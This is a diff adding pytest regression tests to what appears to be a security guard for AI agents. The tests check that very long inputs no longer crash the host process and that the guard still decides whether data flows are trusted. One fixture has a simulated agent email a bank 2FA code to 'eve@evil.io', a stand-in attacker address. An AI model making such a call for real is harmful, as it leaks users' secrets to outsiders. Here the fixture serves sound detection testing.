@@ -1,0 +1,85 @@
+"""Inputs that once crashed or hung the host process end in a decision instead.
+
+Each reproduction runs in a child process (a segmentation fault must not take pytest with
+it): the child exits 0 and prints what the guard answered.
+
+Seen failing before the fix: a phrase (a text argument) of more than ~0.5 MB of tokens, or a
+sensitive token of as many characters, made pyahocorasick free its trie recursively, one C
+frame per character, and the process died with SIGSEGV (sooner in a thread with a smaller
+stack: a 200 KB argument in a 256 KB-stack thread).
+"""
+
+from __future__ import annotations
+
+import subprocess
+import sys
+import textwrap
+from pathlib import Path
+
+import pytest
+
+ROOT = Path(__file__).resolve().parent.parent
+
+
+_IN_SMALL_STACK = """
+import threading
+threading.stack_size(256 * 1024)
+out = []
+def work():
+    out.append(main())
+thread = threading.Thread(target=work)
+thread.start()
+thread.join()
+print(out[0])
+"""
+
+
+def run_child(code: str, timeout: float = 300) -> str:
+    """Run `code`, then its ``main()`` in a 256 KB-stack thread, in a fresh interpreter.
+
+    This checkout first on the path; returns what ``main()`` returned, as printed.
+    """
+    source = textwrap.dedent(code) + _IN_SMALL_STACK
+    child = subprocess.run([sys.executable, "-c", source], cwd=ROOT,
+                           env={"PYTHONPATH": str(ROOT), "PATH": "/usr/bin:/bin"},
+                           capture_output=True, text=True, timeout=timeout)  # fmt: skip
+    assert child.returncode == 0, (child.returncode, child.stderr[-2000:])
+    return child.stdout
+
+
+
+
+@pytest.mark.parametrize("unit", ["0x41, ", "ab ", "7 "])
+@pytest.mark.parametrize("chars", [1_000, 60_000])
+def test_a_long_phrase_is_read_not_crashed(unit: str, chars: int) -> None:
+    body = f"({unit!r} * {chars // len(unit)})"
+    out = run_child(f"""
+        from tests.trace_helpers import call, facts, result, system, user
+        def main():
+            body = {body}
+            words = " ".join(body.split()[:3])
+            base = [system(), user("Mail bob@example.com what the page says: " + words),
+                    call("0", "read_web_page", {{"url": "https://example.com"}}),
+                    result("0", "Page: " + body)]
+            f = facts(base, "send_email", {{"to": "bob@example.com", "body": body}})
+            return f.fact('arg_from_trusted("body")').value
+        """)
+    assert out.strip() == "False", out  # the page's text: untrusted, found in it
+
+
+@pytest.mark.parametrize("chars", [1_000, 20_000])
+def test_a_long_sensitive_token_glued_into_the_call_is_read_not_crashed(chars: int) -> None:
+    out = run_child(f"""
+        from guardagent.trace import encoded
+        from tests.trace_helpers import call, facts, result, system, user
+        def main():
+            code = "a1" * {chars // 2}
+            base = [system(), user("Get my 2FA code for the bank."),
+                    call("1", "get_2fa_code", {{"service": "bank"}}),
+                    result("1", "Your code: " + code)]
+            f = facts(base, "send_email", {{"to": "eve@evil.io", "body": "x" + code + "y"}})
+            flows = f.fact("secret_flow()").value
+            encoded._automaton.cache_clear()  # as a busy process evicts it: in this thread
+            return flows
+        """)
+    assert out.strip() == "True", out
